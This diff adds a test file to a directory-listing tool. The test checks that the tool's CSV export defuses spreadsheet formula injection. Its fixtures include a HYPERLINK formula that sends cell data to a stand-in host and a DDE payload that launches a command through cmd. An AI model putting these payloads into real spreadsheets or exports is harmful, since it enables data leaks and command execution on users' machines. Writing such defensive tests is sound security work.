@@ -1,0 +1,43 @@
+"""Second pair of eyes on issue 9: attacks the first round of adversarial tests did not cover.
+
+Each test reproduces one defect class found by attacking the merged change and asserts the exact safe
+outcome (cells, files, exit codes), never a substring of the implementation's wording.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+from conftest import MINI
+from test_einschleusen import project, run_cli, yaml_text
+
+ENTRY = (MINI / "quartiere/testviertel/angebote/elterncafe.yaml").read_text("utf-8")
+
+# --- CSV for Excel: a cell from content never starts a formula ----------------------------------------------
+
+# What Excel and LibreOffice read as a formula at the start of a cell (OWASP "CSV injection").
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_review_csv_cells_from_content_are_never_formulas(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://boese.example.org/?"&A1;"Klick")'
+    root = project(tmp_path, {
+        "quartiere/testviertel/angebote/elterncafe.yaml": ENTRY.replace(
+            "name: Elterncafé", f"name: {yaml_text('@SUM(1+1)*cmd')}")
+        + f"traeger: {yaml_text(formula)}\ntelefon: {yaml_text('+49 231 12345')}\n",
+        "quartiere/testviertel/kontakte/koordination.yaml":
+            f"name: {yaml_text('-2+3+cmd|' + chr(39) + ' /C calc' + chr(39) + '!A0')}\n"
+            "telefon: 030 23125-100\nstand: 2026-10-01\n",
+    })
+    target = tmp_path / "liste.csv"
+    code, output = run_cli("pruefliste", str(root), "--stichtag", "2030-01-01", "--format", "csv", "-o", str(target))
+    assert code == 0, output
+    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert len(rows) == 3
+    assert [cell for cell in cells if cell.startswith(_FORMULA_START)] == []
+    # The values are all still there, as text: the one added apostrophe is what spreadsheets hide.
+    for value in (formula, "@SUM(1+1)*cmd", "+49 231 12345", "-2+3+cmd|' /C calc'!A0"):
+        assert "'" + value in cells, value
